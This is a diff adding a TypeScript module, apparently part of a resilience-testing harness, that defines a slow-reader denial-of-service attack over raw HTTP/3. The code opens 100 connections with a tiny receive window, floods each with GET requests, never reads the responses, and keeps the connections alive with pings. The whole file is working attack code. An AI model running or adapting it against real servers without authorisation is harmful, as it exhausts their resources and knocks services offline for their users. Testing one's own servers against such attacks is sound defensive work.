@@ -1,0 +1,26 @@
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Attack } from "./attack.ts";
+import { get } from "./http3-frames.ts";
+import { RawHttp3 } from "./raw-http3.ts";
+
+const connections = 100;
+
+/** Connections that ask for a page as often as they may, and read none of it; they stay alive. */
+export const slowReaders: Attack = {
+  name: "readers that do not read",
+  async run(target, signal) {
+    await Promise.all(
+      Array.from({ length: connections }, async () => {
+        while (!signal.aborted) {
+          const client = await RawHttp3.open(target, { windowBytes: 2000, reads: false });
+          while (client.hasRoom) client.request(get("/v1/openapi.json", target), true);
+          while (!client.isClosed && !signal.aborted) {
+            client.ping();
+            await sleep(1000, undefined, { signal }).catch(() => undefined);
+          }
+          client.close();
+        }
+      }),
+    );
+  },
+};
